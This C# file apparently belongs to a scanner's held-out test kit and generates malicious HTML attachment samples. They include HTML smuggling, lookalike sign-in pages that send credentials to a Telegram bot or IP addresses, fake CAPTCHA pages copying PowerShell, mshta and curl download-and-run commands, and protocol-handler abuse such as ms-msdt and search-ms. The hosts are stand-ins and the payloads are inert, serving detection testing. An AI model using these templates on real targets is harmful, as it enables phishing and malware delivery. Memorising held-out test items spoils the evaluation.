using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A page that puts together an archive or disc image in the browser and saves it by itself.</summary>
public sealed class PageThatBuildsADownload : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var archive = InertFiles.Zip(("Statement_November.exe", Carriers.Program()));
        yield return ("Statement.html", Utf8(Fill("""
            <html>
            <body>
            <p>Your document is being downloaded...</p>
            <script>
            function base64ToArrayBuffer(base64) {
              var binary_string = window.atob(base64);
              var len = binary_string.length;
              var bytes = new Uint8Array(len);
              for (var i = 0; i < len; i++) { bytes[i] = binary_string.charCodeAt(i); }
              return bytes.buffer;
            }
            var file = '@@1';
            var data = base64ToArrayBuffer(file);
            var blob = new Blob([data], {type: 'octet/stream'});
            var fileName = 'Statement_November.zip';
            if (window.navigator.msSaveOrOpenBlob) {
              window.navigator.msSaveOrOpenBlob(blob, fileName);
            } else {
              var a = document.createElement('a');
              document.body.appendChild(a);
              a.style = 'display: none';
              var url = window.URL.createObjectURL(blob);
              a.href = url;
              a.download = fileName;
              a.click();
              window.URL.revokeObjectURL(url);
            }
            </script>
            </body>
            </html>
            """, Convert.ToBase64String(archive))));

        yield return ("Rechnung_2026-11.html", Utf8(Fill("""
            <!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Adobe Acrobat - Dokument wird geladen</title>
            <style>body{background:#323639;color:#fff;font-family:Arial;text-align:center;padding-top:15%}</style></head>
            <body><h2>Das Dokument wird heruntergeladen</h2><p>Kennwort zum &Ouml;ffnen: <b>2611</b></p>
            <a id="dl" download="Rechnung_2026-11.zip" href="data:application/zip;base64,@@1"></a>
            <script>window.onload=function(){setTimeout(function(){document.getElementById("dl").click()},1500)}</script>
            </body></html>
            """, Convert.ToBase64String(Carriers.Packed("r.zip", "-tzip -p2611", ("Rechnung_2026-11.iso", Carriers.Disc("RECHNUNG", [], ("Rechnung.lnk", new LinkBuilder().To("C:\\Windows\\System32\\rundll32.exe").With("data.dll,Start").Build()), ("data.dll", Carriers.Program()))))))));

        yield return ("Shipping documents.htm", Utf8(Fill("""
            <html><head><title>OneDrive</title></head><body onload="go()">
            <div style="text-align:center"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="><h3>Loading shared folder</h3></div>
            <script>
            var k = 0x5A, h = "@@1";
            function go() {
              var n = h.length / 2, b = new Uint8Array(n);
              for (var i = 0; i < n; i++) b[i] = parseInt(h.substr(i * 2, 2), 16) ^ k;
              var f = new File([b], "Shipping_documents.img", { type: "application/octet-stream" });
              var l = document.createElement("a");
              l.setAttribute("href", URL.createObjectURL(f));
              l.setAttribute("download", f.name);
              l.dispatchEvent(new MouseEvent("click"));
            }
            </script></body></html>
            """, Convert.ToHexString([.. InertFiles.Zip(("Shipping_documents.js", Dos("new ActiveXObject('WScript.Shell').Run('cmd /c curl -o %tmp%\\\\a.dll http://192.0.2.8/a && rundll32 %tmp%\\\\a.dll,Run');"))).Select(value => (byte)(value ^ 0x5A))]))));

        // Pieces lie in elements of the page, backwards; names of calls are put together; it waits for a movement of the mouse.
        var coded = Convert.ToBase64String(archive);
        yield return ("secure-message.html", Utf8(Fill("""
            <!doctype html><meta charset=utf-8><title>Secure message</title><p id=t>Verifying your browser, please move the pointer.</p>
            <i hidden data-n=2>@@3</i><i hidden data-n=1>@@2</i><i hidden data-n=0>@@1</i>
            <script>
            (function (w, d) {
              var p = [...d.querySelectorAll("i[data-n]")].sort((x, y) => x.dataset.n - y.dataset.n).map(e => [...e.textContent].reverse().join("")).join("");
              var done = 0, at = w["at" + "ob"], U = w["Uint8" + "Array"], B = w["Bl" + "ob"], u = w.URL["create" + "Object" + "URL"].bind(w.URL);
              d.addEventListener("mousemove", async () => {
                if (done++) return;
                var r = U.from(at(p), c => c.charCodeAt());
                var o = d.createElement(String.fromCharCode(97));
                o["down" + "load"] = "message_" + Date.now() + ".zip"; o["hr" + "ef"] = u(new B([r])); o["cl" + "ick"]();
                d.getElementById("t").textContent = "Open the message from your downloads.";
              });
            })(window, document);
            </script>
            """, Backwards(coded[..300]), Backwards(coded[300..600]), Backwards(coded[600..]))));
    }
}

/// <summary>An attached page that looks like a sign-in of a big provider and sends what is typed to somebody else.</summary>
public sealed class AttachedSignInPage : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Voicemail_0042.html", Utf8("""
            <!DOCTYPE html>
            <html><head><title>Sign in to your Microsoft account</title>
            <link rel="icon" href="https://logincdn.msauth.net/shared/1.0/content/images/favicon_a.ico">
            <style>body{font-family:"Segoe UI";background:#f2f2f2}.box{width:440px;margin:120px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;margin:12px 0;padding:6px}</style></head>
            <body><div class="box"><img src="https://logincdn.msauth.net/shared/1.0/content/images/microsoft_logo_ee5c.svg" alt="Microsoft">
            <h2>Enter password</h2><p>Because you are accessing sensitive info, you need to verify your password.</p>
            <form method="post" action="https://mail-verify.test/wp-content/plugins/o/next.php">
            <input type="email" name="login" value="dana@kestrel-foods.example" readonly>
            <input type="password" name="passwd" placeholder="Password" required>
            <input type="submit" value="Sign in" style="background:#0067b8;color:#fff"></form></div></body></html>
            """));

        yield return ("Scan_Payment_Copy.html", Utf8("""
            <html><head><meta charset="utf-8"><title>Adobe Document Cloud</title></head>
            <body style="background:url(https://i.imgur.com/blurred-invoice-000.png) center/cover">
            <div style="background:#fff;width:380px;margin:10% auto;padding:20px;border-top:6px solid #e2231a"><h3>Adobe PDF Online</h3><p>Confirm your e-mail password to view the document.</p>
            <input id="em" type="text" placeholder="E-mail"><input id="pw" type="password" placeholder="E-mail password"><button onclick="s()">View document</button><p id="er" style="color:red"></p></div>
            <script>
            var tries = 0;
            function s() {
              var text = "Adobe | " + document.getElementById("em").value + " : " + document.getElementById("pw").value + " | " + navigator.userAgent;
              fetch("https://api.telegram.org/bot0000000000:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx/sendMessage?chat_id=-100000000000&text=" + encodeURIComponent(text));
              if (++tries < 2) { document.getElementById("er").innerText = "Wrong password, try again."; document.getElementById("pw").value = ""; }
              else location.href = "https://www.adobe.com";
            }
            </script></body></html>
            """));

        yield return ("Zustellung_bestaetigen.htm", Utf8("""
            <!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Sparkasse - Anmeldung Online-Banking</title>
            <script src="https://code.jquery.com/jquery-3.6.0.min.js"></script></head><body>
            <div style="background:#ff0000;color:#fff;padding:14px">Sparkasse</div>
            <h3>Ihr pushTAN-Verfahren läuft ab</h3><p>Melden Sie sich an, um Ihr Verfahren zu verlängern.</p>
            <form id="f"><input name="anmeldename" placeholder="Anmeldename oder Legitimations-ID"><input name="pin" type="password" placeholder="PIN"><input name="tel" placeholder="Mobilfunknummer"><button>Anmelden</button></form>
            <script>
            $("#f").submit(function (e) {
              e.preventDefault();
              $.ajax({ type: "POST", url: "https://198.51.100.190/s/log.php", data: $(this).serialize() }).always(function () { location.replace("https://www.sparkasse.de"); });
            });
            </script></body></html>
            """));

        // The page is written by a decoder; the victim's address comes from the fragment; the receiver's address is put together when the form is sent.
        yield return ("RFQ_document.shtml", Utf8(Fill("""
            <script>
            var q="@@1";
            var r="";for(var i=0;i<q.length;i+=2)r+=String.fromCharCode(parseInt(q.substr(i,2),16)^23);
            document.open();document.write(r);document.close();
            </script>
            """, Hex("""
            <html><head><title>Outlook Web App</title></head><body bgcolor="#0072c6"><center><div style="background:#fff;width:400px;margin-top:9%;padding:30px"><h1 style="color:#0072c6">Outlook</h1>
            <form onsubmit="return go(this)"><input id="u" name="u"><br><input name="p" type="password" placeholder="Password"><br><button>sign in</button></form></div></center>
            <script>document.getElementById("u").value=atob(location.hash.slice(1)||"ZGFuYUBrZXN0cmVsLWZvb2RzLmV4YW1wbGU=");
            function go(f){var x=new XMLHttpRequest();x.open("POST",["ht","tps:/","/cdn-","owa.te","st/a/","c.php"].join(""));x.send(new FormData(f));setTimeout(function(){location="https://outlook.office.com"},800);return false}</script></body></html>
            """, 23))));
    }
}

/// <summary>A page that plays a check for robots or a repair and puts a command on the clipboard to be pasted into a Windows or Mac prompt.</summary>
public sealed class PageThatHasACommandPasted : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("verify.html", Utf8("""
            <!DOCTYPE html><html><head><title>Just a moment...</title></head><body style="font-family:Arial">
            <div id="c" style="border:1px solid #ccc;width:300px;padding:18px"><label><input type="checkbox" onclick="v()"> I'm not a robot</label><small>reCAPTCHA</small></div>
            <div id="m" style="display:none"><h3>Verification Steps</h3><ol><li>Press Windows Button <b>Win + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol></div>
            <script>
            function v() {
              const t = document.createElement("textarea");
              t.value = 'mshta https://captcha-check.test/human.mp4 # ✅ I am not a robot - reCAPTCHA Verification ID: 146820';
              document.body.appendChild(t); t.select(); document.execCommand("copy"); document.body.removeChild(t);
              document.getElementById("m").style.display = "block";
            }
            </script></body></html>
            """));

        yield return ("cloudflare.html", Utf8(Fill("""
            <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Attention Required! | Cloudflare</title></head><body>
            <h1>travel-desk.example</h1><p>Verify you are human by completing the action below.</p>
            <button id="b">Verify you are human</button>
            <div id="p" hidden><p>Unusual web traffic detected. To better prove you are not a robot, please:</p><p>1. Press and hold the Windows key <b>⊞</b> + <b>R</b>.</p><p>2. In the verification window press <b>Ctrl</b> + <b>V</b>.</p><p>3. Press <b>Enter</b> on your keyboard to finish.</p></div>
            <script>
            document.getElementById("b").addEventListener("click", async () => {
              await navigator.clipboard.writeText("powershell -w hidden -nop -ep bypass -enc @@1");
              document.getElementById("p").hidden = false;
            });
            </script></body></html>
            """, Encoded("iex (iwr 'http://203.0.113.200/step.txt' -UseBasicParsing).Content"))));

        yield return ("shared_file.html", Utf8("""
            <html><head><title>HR - Shared document</title></head><body>
            <h2>To access Contract.docx, follow these steps</h2>
            <p>1. Copy the file path below <code id="fp">C:\company\internal-secure\filedrive\HRPolicy.docx</code> <button onclick="cp()">Copy</button></p>
            <p>2. Open File Explorer and select the address bar (CTRL + L)</p><p>3. Paste the file path and press Enter</p>
            <button onclick="document.getElementById('fi').click()">Open File Explorer</button><input id="fi" type="file" style="display:none">
            <script>
            function cp() { navigator.clipboard.writeText("Powershell.exe -c \"$u='http://192.0.2.77/fx.ps1';iwr $u|iex\"                                                                                      # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx"); }
            </script></body></html>
            """));

        // A page for two systems; the commands are coded and only put on the clipboard when the frame is pressed, in German.
        yield return ("pruefung.html", Utf8(Fill("""
            <!doctype html><html lang=de><meta charset=utf-8><title>Sicherheitsprüfung</title><body>
            <section id=z><h3>Sind Sie ein Mensch?</h3><p class=w>Drücken Sie <kbd>⊞</kbd>+<kbd>X</kbd>, dann <kbd>I</kbd>, fügen Sie den Prüfcode mit der rechten Maustaste ein und bestätigen Sie.</p>
            <p class=m>Öffnen Sie „Terminal“ (⌘+Leertaste), fügen Sie den Prüfcode ein (⌘+V) und bestätigen Sie.</p></section>
            <script>
            const isMac = /Mac/.test(navigator.platform), s = { w: "@@1", m: "@@2" };
            document.querySelector(isMac ? ".w" : ".m").remove();
            document.addEventListener("copy", e => { e.preventDefault(); e.clipboardData.setData("text/plain", new TextDecoder().decode(Uint8Array.from(atob(isMac ? s.m : s.w), c => c.charCodeAt(0) ^ 7))); });
            document.getElementById("z").onpointerdown = () => { getSelection().selectAllChildren(document.getElementById("z")); document.execCommand("copy"); };
            </script></body></html>
            """, XorBase64("cmd /c start /min powershell -c \"& ([scriptblock]::Create((irm pruef.captcha-check.test/w)))\"", 7), XorBase64("/bin/bash -c \"$(curl -fsSL https://captcha-check.test/m.sh)\"", 7))));
    }
}

/// <summary>A page that starts a program of the system through the address of a protocol.</summary>
public sealed class PageThatCallsAProtocol : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("index.html", Utf8(Fill("""
            <!doctype html>
            <html lang="en">
            <body>
            <script>
            //@@1
            window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=cal?c IT_LaunchMethod=ContextMenu IT_SelectProgram=NotListed IT_BrowseForFile=h$(Invoke-Expression($(Invoke-Expression('[System.Text.Encoding]'+[char]58+[char]58+'UTF8.GetString([System.Convert]'+[char]58+[char]58+'FromBase64String('+[char]34+'@@2'+[char]34+'))'))))i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe IT_AutoTroubleshoot=ts_AUTO\"";
            </script>
            </body>
            </html>
            """, new string('A', 4200), Base64("Invoke-WebRequest http://192.0.2.50/nc.exe -OutFile C:\\Windows\\Tasks\\nc.exe; C:\\Windows\\Tasks\\nc.exe"))));

        yield return ("Invoice_viewer.html", Utf8("""
            <html><head><title>Invoice</title>
            <meta http-equiv="refresh" content="0; url=search:query=invoice&crumb=location:%5C%5C198.51.100.9@8080%5CDavWWWRoot%5C&displayname=Downloads">
            </head><body><p>If the folder does not open, <a href="search-ms:query=invoice&crumb=location:\\198.51.100.9@8080\DavWWWRoot\&displayname=Downloads">click here</a> and allow Windows Explorer.</p></body></html>
            """));

        yield return ("document_portal.htm", Utf8("""
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>SharePoint</title></head><body onload="document.getElementById('o').click()">
            <p>Dieses Dokument wird in Microsoft Word geöffnet.</p>
            <a id="o" href="ms-word:ofe|u|http://203.0.113.44/dokumente/Vertrag.docm">In der App öffnen</a>
            <iframe style="display:none" src="ms-officecmd:%7B%22id%22:3,%22LocalProviders.LaunchOfficeAppForResult%22:%7B%22details%22:%7B%22appId%22:5,%22name%22:%22Teams%22,%22discovered%22:%7B%22command%22:%22teams.exe%22,%22uri%22:%22msteams%22%7D%7D,%22filename%22:%22a:/b/%2520--disable-gpu-sandbox%2520--gpu-launcher=%22cmd%20/c%20start%20mshta%20http://203.0.113.44/x.hta%2520%22%22%7D%7D"></iframe>
            </body></html>
            """));

        // The protocol's name comes from numbers, the share is behind a percent code, and a click anywhere is enough.
        yield return ("preview.xhtml", Utf8(Fill("""
            <?xml version="1.0" encoding="utf-8"?>
            <html xmlns="http://www.w3.org/1999/xhtml"><head><title>Preview</title></head>
            <body><div style="position:fixed;inset:0;cursor:pointer" id="x"></div><h3>Click to load the preview</h3>
            <script>//<![CDATA[
            var n = [@@1].map(function (v) { return String.fromCharCode(v - 11); }).join("");
            document.getElementById("x").onclick = function () { top["loc" + "ation"] = n + unescape("%71%75%65%72%79%3Dscan%26%63%72%75%6D%62%3D%6C%6F%63%61%74%69%6F%6E%3A%5C%5Cfiles.docs-share.test%40SSL%5CDavWWWRoot%5Cq%26displayname%3DScans"); };
            //]]></script></body></html>
            """, Codes("search-ms:", 11))));
    }
}

/// <summary>An attached page that does nothing but lead the browser to the sign-in page of a thief.</summary>
public sealed class AttachedPageThatForwards : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Remittance_details.html", Utf8("""
            <html><head><meta http-equiv="refresh" content="0; url=https://office-document-view.test/common/oauth2?email=dana@kestrel-foods.example"></head><body>Loading document...</body></html>
            """));

        yield return ("📞VM_Message_0223.htm", Utf8(Fill("""
            <script>
            var email = "hr@millbrook.example";
            window.location.href = atob("@@1") + "#" + btoa(email);
            </script>
            """, Base64("https://bafybeigreenhouse00000000000000.ipfs.dweb.link/index.html"))));

        yield return ("Lohnabrechnung.html", Utf8("""
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>Lohnabrechnung November</title><style>*{margin:0}iframe{position:fixed;width:100%;height:100%;border:0}</style></head>
            <body><iframe src="https://pub-0000lohn0000.r2.dev/microsoft-login.html?mail=albers@seitz-pumpen.example" sandbox="allow-scripts allow-forms allow-top-navigation"></iframe></body></html>
            """));

        // A remote script writes the page; where it lives is put together from the attributes of an image.
        yield return ("Contract.html", Utf8(Fill("""
            <html><body><p style="display:none">The contract between the parties named below shall be governed by the law of the place of performance.</p>
            <img src="x" alt="@@1" title="dana@kestrel-foods.example" style="display:none" onerror="var s=document.createElement('script');s.src=this.alt.split('.').map(function(n){return String.fromCharCode(n^42)}).join('');s.dataset.e=this.title;document.head.append(s)">
            </body></html>
            """, string.Join('.', "https://cdn-jquery-lib.test/j.js".Select(letter => letter ^ 42)))));
    }
}
